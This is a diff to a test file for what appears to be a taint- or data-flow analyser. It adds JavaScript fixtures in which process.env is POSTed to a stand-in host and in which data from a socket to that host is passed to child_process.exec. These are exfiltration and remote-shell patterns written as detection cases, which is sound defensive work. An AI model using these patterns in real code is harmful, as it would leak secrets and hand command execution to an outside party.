@@ -5,6 +5,20 @@ import { flowLines } from '../../test/behave.ts';
 
 const CASES: readonly (readonly [string, Readonly<Record<string, string>>, string])[] = [
   [
+    'taken out of a list that a member of an object holds',
+    {
+      'index.js': `class Q { constructor() { this.all = [] } add(x) { this.all.push(x) } flush() { fetch('https://a.invalid', { method: 'POST', body: this.all.splice(0).join('') }) } } const q = new Q(); q.add(process.env); q.flush()`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'through a listener that another function makes',
+    {
+      'index.js': `const lines = on => { let all = ''; return chunk => { all += chunk; on(all) } }; require('net').connect(4, 'a.invalid').on('data', lines(text => require('child_process').exec(text)))`,
+    },
+    'net.connect → child_process.exec as content',
+  ],
+  [
     'through a listener whose object is its own connection',
     {
       'index.js': `require('net').connect(4, 'a.invalid', function () { const self = this; this.on('data', d => require('child_process').exec(d.toString())); self.write('x'); })`,
